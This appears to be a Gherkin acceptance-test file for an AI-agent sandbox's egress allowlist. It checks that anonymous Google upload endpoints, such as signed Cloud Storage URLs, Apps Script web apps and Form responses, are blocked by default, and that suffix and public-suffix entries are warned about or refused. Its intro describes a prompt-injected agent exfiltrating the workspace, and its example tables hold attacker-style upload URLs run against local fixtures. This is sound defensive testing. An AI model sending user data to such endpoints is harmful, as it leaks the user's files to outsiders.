@task-4 @threat-exfiltration @threat-anonymous-upload
Feature: No anonymous way out by default: the agent reaches only the hosts the user names (task 4)

  Some hosts accept data from anyone, with no credential of the user's. Under Google's domains alone: a signed
  upload URL of Cloud Storage (storage.googleapis.com) that an attacker made for a bucket of his own, an Apps
  Script web app (script.google.com/macros/s/ID/exec) and a Google Form (docs.google.com/forms/d/e/ID/formResponse)
  that an attacker published. An allowlist holding .googleapis.com or .google.com, as paude's default once did,
  lets a prompt-injected agent send the workspace to any of them. So the default allowlist is empty, and every host
  the agent reaches is one the user named. A suffix entry (.example.com) still allows every name below it, so paude
  warns about it at every start; an entry that is itself a public suffix, below which anyone can register a name
  (googleapis.com is one, in the Public Suffix List's private section), is refused. The hosts here are aliases of
  the test internet's web fixture, which records every request it receives.

  Rule: the default allowlist admits none of the anonymous upload endpoints

    Scenario Outline: <what> is refused by the default allowlist, and nothing reaches the host
      Given a sandbox that allows "fixture.test"
      When the agent sends <method> with data to "<url>"
      Then the proxy answers with its 403 page naming "<host>"
      And the proxy's access log shows the <method> to "<host>" refused with ERR_PAUDE_BLOCKED
      And the fixture behind "<host>" received nothing of it
      And the session's allowlist is exactly "fixture.test"
      And the start gave no warning about suffix entries
      But the agent can still fetch "http://fixture.test/control"

      Examples:
        | what                             | method | url                                                                                               | host                   |
        | a signed upload to Cloud Storage | PUT    | http://storage.googleapis.com/attacker-bucket/workspace.tar?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Signature=0bad | storage.googleapis.com |
        | a POST to an Apps Script web app | POST   | http://script.google.com/macros/s/AKfycbAttacker/exec                                             | script.google.com      |
        | a Google Form response           | POST   | http://docs.google.com/forms/d/e/1FAIpQLSeAttacker/formResponse                                   | docs.google.com        |

  Rule: an endpoint is reachable once the user names its host, and only that host

    Scenario Outline: with "<host>" allowed by name, <what> reaches it, and <sibling> stays refused
      Given a sandbox that allows "<host>"
      When the agent sends <method> with data to "<url>"
      Then the fixture behind "<host>" received the <method> with its data
      And the start gave no warning about suffix entries
      When the agent fetches "http://<sibling>/"
      Then the proxy answers with its 403 page naming "<sibling>"

      Examples:
        | what                             | method | url                                                                                               | host                   | sibling             |
        | a signed upload to Cloud Storage | PUT    | http://storage.googleapis.com/attacker-bucket/workspace.tar?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Signature=0bad | storage.googleapis.com | www.googleapis.com  |
        | a POST to an Apps Script web app | POST   | http://script.google.com/macros/s/AKfycbAttacker/exec                                             | script.google.com      | accounts.google.com |
        | a Google Form response           | POST   | http://docs.google.com/forms/d/e/1FAIpQLSeAttacker/formResponse                                   | docs.google.com        | accounts.google.com |

  Rule: a suffix entry is the user's explicit choice, and every start that uses one warns about it

    Scenario: with ".google.com" allowed, the start warns that every name below it is reachable, and an Apps Script upload goes through
      Given a sandbox that allows ".google.com"
      Then the start warned that ".google.com" allows every name below it, and to prefer exact hosts
      When the agent sends POST with data to "http://script.google.com/macros/s/AKfycbAttacker/exec"
      Then the fixture behind "script.google.com" received the POST with its data

  Rule: an entry that is a public suffix is refused, for anyone can register names below it

    Scenario Outline: the public suffix "<entry>" is refused before anything is created, naming an exact host instead
      When the user runs paude with an allowlist entry "<entry>"
      Then paude exits with code 2 and the error names "'<entry>'"
      And the error says it is a public suffix and to name an exact host such as "<instead>"
      And nothing of paude was created

      Examples:
        | entry           | instead                  |
        | .googleapis.com | myproject.googleapis.com |
        | co.uk           | myproject.co.uk          |
        | .github.io      | myproject.github.io      |
        | appspot.com     | myproject.appspot.com    |
